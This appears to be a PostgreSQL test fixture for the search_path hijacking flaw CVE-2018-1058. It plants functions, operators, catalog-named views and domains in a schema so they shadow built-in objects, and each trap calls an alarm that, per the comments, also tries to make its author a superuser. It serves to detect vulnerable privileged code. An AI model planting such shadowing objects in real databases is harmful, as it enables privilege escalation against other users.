-- What a person who may create in a schema can put there for others to trip over (CVE-2018-1058): the
-- server's functions and operators once more, with the same arguments and with closer matches for a
-- driver's varchar parameters; its catalogs as views; its types as domains. Each of them tells that it
-- was called, makes its author a superuser if it can, and fails. Tests put a name for planted_schema.
SET search_path = pg_catalog, pg_temp; -- not into one's own trap

DO $plant$
DECLARE planted record;
BEGIN
  FOR planted IN
    SELECT DISTINCT proname, arguments FROM (
      SELECT proname, ARRAY(SELECT pg_catalog.format_type(t, NULL)
                              FROM pg_catalog.unnest(proargtypes) AS t) AS exact
        FROM pg_catalog.pg_proc
       WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f'
         AND pronargs BETWEEN 0 AND 4 AND proretset = false
         AND proname ~ '^(pg_|has_|to_|hash|set_config|current|format|quote|row_sec|gen_|now|version|count)'
         AND NOT EXISTS (SELECT FROM pg_catalog.unnest(proargtypes) AS t
                           JOIN pg_catalog.pg_type ON pg_type.oid = t WHERE typtype = 'p')
    ) AS server,
    LATERAL (VALUES (pg_catalog.array_to_string(exact, ', ')),
                    (pg_catalog.regexp_replace(pg_catalog.array_to_string(exact, ', '),
                                               '\mtext\M', 'character varying', 'g')),
                    (pg_catalog.regexp_replace(pg_catalog.array_to_string(exact, ', '),
                                               '\m(text|name)\M', 'character varying', 'g')))
      AS variant(arguments)
    UNION VALUES ('databricks_create_role', 'text, text'),
                 ('databricks_create_role', 'character varying, character varying')
  LOOP
    BEGIN
      EXECUTE format('CREATE FUNCTION planted_schema.%I(%s) RETURNS boolean LANGUAGE plpgsql AS'
                     ' $$ BEGIN RETURN alarm.ring(); END $$', planted.proname, planted.arguments);
    EXCEPTION WHEN duplicate_function THEN NULL;
    END;
  END LOOP;
END $plant$;

DO $plant$
DECLARE l text; r text; operator text;
BEGIN
  FOREACH l IN ARRAY '{name,varchar,text,oid,int4,int8,bool}'::text[] LOOP
    FOREACH r IN ARRAY '{name,varchar,text,oid,int4,int8,bool}'::text[] LOOP
      EXECUTE format('CREATE FUNCTION planted_schema.planted(pg_catalog.%s, pg_catalog.%s) RETURNS boolean'
                     ' LANGUAGE plpgsql AS $$ BEGIN RETURN alarm.ring(); END $$', l, r);
      FOREACH operator IN ARRAY '{=,<>,~,!~,~~,||,<,>,<=,>=,+,-}'::text[] LOOP
        EXECUTE format('CREATE OPERATOR planted_schema.%s (LEFTARG = pg_catalog.%s, RIGHTARG = pg_catalog.%s,'
                       ' FUNCTION = planted_schema.planted)', operator, l, r);
      END LOOP;
    END LOOP;
  END LOOP;
END $plant$;

DO $plant$
DECLARE name text;
BEGIN
  FOREACH name IN ARRAY
    '{pg_roles,pg_auth_members,pg_namespace,pg_class,pg_extension,pg_available_extensions,
      pg_depend,pg_proc,pg_locks,pg_stat_activity,pg_policies}'::text[] LOOP
    EXECUTE format('CREATE VIEW planted_schema.%I AS SELECT * FROM pg_catalog.%I WHERE alarm.ring()', name, name);
    EXECUTE format('GRANT SELECT ON planted_schema.%I TO PUBLIC', name);
  END LOOP;
  FOREACH name IN ARRAY '{text,name,oid,regclass,regnamespace,uuid,timestamptz}'::text[] LOOP
    EXECUTE format('CREATE DOMAIN planted_schema.%I AS pg_catalog.%I CHECK (alarm.ring())', name, name);
  END LOOP;
END $plant$;
